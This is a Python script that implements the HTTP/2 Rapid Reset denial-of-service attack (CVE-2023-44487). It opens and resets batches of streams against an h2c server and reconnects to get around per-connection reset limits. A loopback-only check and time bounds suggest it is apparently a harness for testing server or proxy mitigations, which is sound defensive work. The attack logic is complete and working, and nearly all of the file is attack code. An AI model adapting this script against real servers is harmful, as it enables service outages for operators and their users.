#!/usr/bin/python3
"""Rapid reset (CVE-2023-44487) against an h2c server, as a hostile client does
it through a proxy: open requests, let them reach the server, reset them,
and reconnect before the server's own per-connection reset limit.

Usage: rapid_reset.py HOST PORT PATH SECONDS [--per-connection N] [--batch N]
                      [--delay-ms MS]
Each round sends a batch of requests (HEADERS + DATA with END_STREAM) in one
write, waits MS, and resets them in another write.
Prints one line: "streams=<opened> resets=<sent> connections=<made>" when
SECONDS passed or on SIGTERM. Every loop is bounded by SECONDS (and by the
counts); loopback only.
"""
import argparse
import signal
import socket
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("path")
    parser.add_argument("seconds", type=float)
    parser.add_argument("--per-connection", type=int, default=900)
    parser.add_argument("--batch", type=int, default=50)
    parser.add_argument("--delay-ms", type=float, default=0)
    args = parser.parse_args()
    if args.host not in ("127.0.0.1", "::1", "localhost"):
        raise SystemExit("loopback only")

    deadline = time.monotonic() + args.seconds

    def stop(*_):
        nonlocal deadline
        deadline = 0

    signal.signal(signal.SIGTERM, stop)
    streams = resets = connections = 0
    while time.monotonic() < deadline and connections < 10_000:
        try:
            sock = socket.create_connection((args.host, args.port), timeout=2)
        except OSError:
            time.sleep(0.05)
            continue
        connections += 1
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        sock.settimeout(0.002)
        opened = 0
        try:
            while opened < args.per_connection and time.monotonic() < deadline:
                ids = []
                for _ in range(min(args.batch, args.per_connection - opened)):
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, [(":method", "POST"), (":scheme", "http"),
                                            (":authority", "localhost"), (":path", args.path),
                                            ("content-type", "application/json")], end_stream=False)
                    conn.send_data(sid, b"{}", end_stream=True)
                    ids.append(sid)
                sock.sendall(conn.data_to_send())
                opened += len(ids)
                streams += len(ids)
                # let the requests reach the server behind the proxy, then reset them
                if args.delay_ms > 0:
                    time.sleep(args.delay_ms / 1000)
                for sid in ids:
                    try:
                        conn.reset_stream(sid)
                        resets += 1
                    except h2.exceptions.StreamClosedError:
                        pass
                sock.sendall(conn.data_to_send())
                try:  # read what came (SETTINGS, answers, GOAWAY) without waiting
                    data = sock.recv(1 << 20)
                    if not data:
                        break
                    conn.receive_data(data)
                except socket.timeout:
                    pass
        except (OSError, h2.exceptions.ProtocolError):
            pass
        finally:
            sock.close()
    print(f"streams={streams} resets={resets} connections={connections}")


if __name__ == "__main__":
    main()
